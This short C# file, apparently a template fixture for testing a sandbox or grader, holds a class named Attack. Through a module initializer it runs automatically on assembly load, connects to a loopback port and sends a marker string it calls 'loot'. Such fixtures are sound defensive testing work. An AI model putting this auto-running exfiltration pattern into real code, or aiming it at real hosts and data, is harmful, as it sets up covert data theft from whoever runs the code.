using System.Net.Sockets;
using System.Runtime.CompilerServices;
using System.Text;

namespace Homework.Attention;

/// <summary>Sends its loot to a listener on the host's loopback.</summary>
public static class Attack
{
    [ModuleInitializer]
    public static void Run()
    {
        try
        {
            using var client = new TcpClient();
            client.Connect("127.0.0.1", __PORT__);
            client.GetStream().Write(Encoding.UTF8.GetBytes("__MARKER__"));
        }
        catch (Exception e)
        {
            Console.Error.WriteLine("no network: " + e.Message);
        }
    }
}
